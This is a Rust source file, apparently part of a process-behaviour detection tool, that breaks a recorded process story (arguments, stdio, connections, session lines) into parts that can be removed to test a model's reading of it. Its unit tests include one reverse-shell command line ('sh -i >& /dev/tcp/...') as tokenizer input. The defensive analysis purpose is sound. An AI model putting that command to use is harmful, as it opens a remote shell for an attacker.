//! A story taken apart: what can be left out of it.

use std::ops::Range;

use cordon_behavior::story::{Connection, Process, StdioKind, Story};
use cordon_model::place;

use crate::fact::{self, Fact};

/// Most items of one list, or pieces of one text, that are parts of their own; the last one stands
/// for all that follow.
const MOST: usize = 32;
/// Arguments longer than this are taken apart.
const LONG: usize = 48;

/// Which text a [`Part::Text`] is in.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Text {
    Argument(usize),
    Command,
    Line(usize),
}

/// Standard descriptors.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
pub(crate) enum Stdio {
    /// All three, where they are of one kind.
    All,
    Input,
    Output,
    Error,
}

/// What can be left out. Ranges are of indices in the story's lists, or of bytes in a text.
#[derive(Clone, Debug, PartialEq, Eq)]
pub(crate) enum Part {
    /// The image and the name that it was given.
    Program,
    Text(Text, Range<usize>),
    /// All arguments from here on.
    Arguments(usize),
    Directory,
    Stdio(Stdio),
    Terminal,
    User,
    DeletedExe,
    Memfd,
    Ancestors(Range<usize>),
    Children(Range<usize>),
    /// The first connection of its class; it stands for all of them, since the model reads the class.
    Connections(usize),
    Names(Range<usize>),
    Files(Range<usize>),
    /// All session lines from here on.
    Lines(usize),
    /// Something counted, measured or found out.
    Fact(Fact),
}

impl Part {
    /// Parts of one group stand together in [`parts`] and are tried together first.
    pub(crate) fn group(&self) -> u8 {
        match self {
            Self::Program => 0,
            Self::Text(Text::Argument(_), _) | Self::Arguments(_) => 1,
            Self::Directory => 2,
            Self::Stdio(_) => 3,
            Self::Terminal | Self::User | Self::DeletedExe | Self::Memfd => 4,
            Self::Ancestors(_) => 5,
            Self::Children(_) => 6,
            Self::Connections(_) => 7,
            Self::Names(_) => 8,
            Self::Files(_) => 9,
            Self::Text(Text::Command, _) => 10,
            Self::Text(Text::Line(_), _) | Self::Lines(_) => 11,
            Self::Fact(_) => 12,
        }
    }
}

/// Every part of `story`, group by group. There are a few hundred at most.
pub(crate) fn parts(story: &Story) -> Vec<Part> {
    let mut parts = Vec::new();
    if let Some(process) = &story.process {
        program(process, &mut parts);
        state(process, &mut parts);
    }
    parts.extend(items(story.ancestors.len()).map(Part::Ancestors));
    parts.extend(items(story.children.len()).map(Part::Children));
    parts.extend(
        classes(&story.connections)
            .into_iter()
            .map(Part::Connections),
    );
    parts.extend(items(story.dns.len()).map(Part::Names));
    parts.extend(items(story.files.len()).map(Part::Files));
    if let Some(command) = &story.command {
        parts.extend(pieces(command).map(|at| Part::Text(Text::Command, at)));
    }
    lines(&story.session, &mut parts);
    parts.extend(fact::of(story).map(Part::Fact));
    parts
}

fn program(process: &Process, parts: &mut Vec<Part>) {
    if !process.exe.is_empty() || !process.argv.is_empty() {
        parts.push(Part::Program);
    }
    for (index, argument) in process.argv.iter().enumerate().skip(1) {
        if index > MOST {
            parts.push(Part::Arguments(index));
            break;
        }
        let text = Text::Argument(index);
        if argument.len() > LONG {
            parts.extend(pieces(argument).map(|at| Part::Text(text, at)));
        } else {
            parts.push(Part::Text(text, 0..argument.len()));
        }
    }
    if !process.cwd.is_empty() {
        parts.push(Part::Directory);
    }
}

fn state(process: &Process, parts: &mut Vec<Part>) {
    let kinds = [process.stdin, process.stdout, process.stderr];
    if kinds == [process.stdin; 3] && process.stdin != StdioKind::Unknown {
        parts.push(Part::Stdio(Stdio::All));
    } else {
        let named = [Stdio::Input, Stdio::Output, Stdio::Error]
            .into_iter()
            .zip(kinds);
        let known = named.filter(|(_, kind)| *kind != StdioKind::Unknown);
        parts.extend(known.map(|(which, _)| Part::Stdio(which)));
    }
    for (is_there, part) in [
        (process.tty.is_some(), Part::Terminal),
        (process.uid.is_some() || process.euid.is_some(), Part::User),
        (process.deleted_exe, Part::DeletedExe),
        (process.memfd, Part::Memfd),
    ] {
        if is_there {
            parts.push(part);
        }
    }
}

fn lines(session: &[String], parts: &mut Vec<Part>) {
    if let [line] = session {
        parts.extend(pieces(line).map(|at| Part::Text(Text::Line(0), at)));
        return;
    }
    for (index, line) in session.iter().enumerate() {
        if index >= MOST {
            parts.push(Part::Lines(index));
            break;
        }
        parts.push(Part::Text(Text::Line(index), 0..line.len()));
    }
}

/// Each index by itself, and what is beyond [`MOST`] together.
fn items(count: usize) -> impl Iterator<Item = Range<usize>> {
    (0..count.min(MOST)).map(move |index| index..if index + 1 == MOST { count } else { index + 1 })
}

/// The first connection of each class.
fn classes(connections: &[Connection]) -> Vec<usize> {
    let mut firsts: Vec<usize> = Vec::new();
    let reached = connections.iter().enumerate().take(256);
    for (index, one) in reached.filter(|(_, one)| one.direction != "listen") {
        if !firsts
            .iter()
            .any(|first| is_like(&connections[*first], one))
        {
            firsts.push(index);
        }
    }
    firsts.truncate(MOST);
    firsts
}

/// Whether the model reads both as the same.
pub(crate) fn is_like(a: &Connection, b: &Connection) -> bool {
    let class = |one: &Connection| {
        let address = one.address.parse().map_or("", place::address);
        (
            ["in", "listen"].map(|direction| one.direction == direction),
            one.protocol == "udp",
            address,
            place::port(one.port),
        )
    };
    class(a) == class(b)
}

/// A text cut at what ends a shell statement; at spaces where there is only one. Quotes are not
/// looked at: a piece is left out to see what the model makes of the rest, not to be run.
fn pieces(text: &str) -> impl Iterator<Item = Range<usize>> + use<> {
    let mut cuts = cut(text, ends_statement);
    if cuts.len() < 2 {
        cuts = cut(text, |_, c, _| c.is_whitespace());
    }
    if cuts.len() > MOST {
        let last = cuts[MOST - 1].start..text.len();
        cuts.truncate(MOST - 1);
        cuts.push(last);
    }
    cuts.into_iter()
}

/// Takes the characters before and behind too: in `0>&1` and `&>log` the ampersand ends nothing.
fn ends_statement(before: Option<char>, c: char, behind: Option<char>) -> bool {
    match c {
        ';' | '|' | '\n' => true,
        '&' => !matches!(before, Some('>' | '<')) && behind != Some('>'),
        _ => false,
    }
}

fn cut(text: &str, is_end: fn(Option<char>, char, Option<char>) -> bool) -> Vec<Range<usize>> {
    let mut cuts = Vec::new();
    let (mut start, mut before) = (0, None);
    for (at, c) in text.char_indices() {
        let next = at + c.len_utf8();
        if is_end(before, c, text[next..].chars().next()) {
            push_trimmed(text, start..at, &mut cuts);
            start = next;
        }
        before = Some(c);
        if cuts.len() > MOST {
            return cuts;
        }
    }
    push_trimmed(text, start..text.len(), &mut cuts);
    cuts
}

fn push_trimmed(text: &str, at: Range<usize>, cuts: &mut Vec<Range<usize>>) {
    let piece = text[at.clone()].trim_start();
    let start = at.end - piece.len();
    let end = start + piece.trim_end().len();
    if start < end {
        cuts.push(start..end);
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn check(text: &str) -> Vec<&str> {
        pieces(text).map(|at| &text[at]).collect()
    }

    #[test]
    fn a_command_is_cut_into_statements_and_a_statement_into_words() {
        assert_eq!(check("cd /tmp && ls; ./x &"), ["cd /tmp", "ls", "./x"]);
        assert_eq!(
            check("sh -i >& /dev/tcp/h/1 0>&1"),
            ["sh", "-i", ">&", "/dev/tcp/h/1", "0>&1"]
        );
        assert_eq!(check("a &> b | c 2>&1"), ["a &> b", "c 2>&1"]);
        assert_eq!(check(" \n"), Vec::<&str>::new());
        assert_eq!(check("é\u{a0}x"), ["é", "x"]);
    }

    #[test]
    fn long_texts_end_in_one_piece_for_the_rest() {
        let text = "x;".repeat(1000);
        let found = check(&text);
        assert_eq!(
            (found.len(), found[0], found[MOST - 1].len()),
            (MOST, "x", 2000 - 2 * (MOST - 1))
        );
    }
}
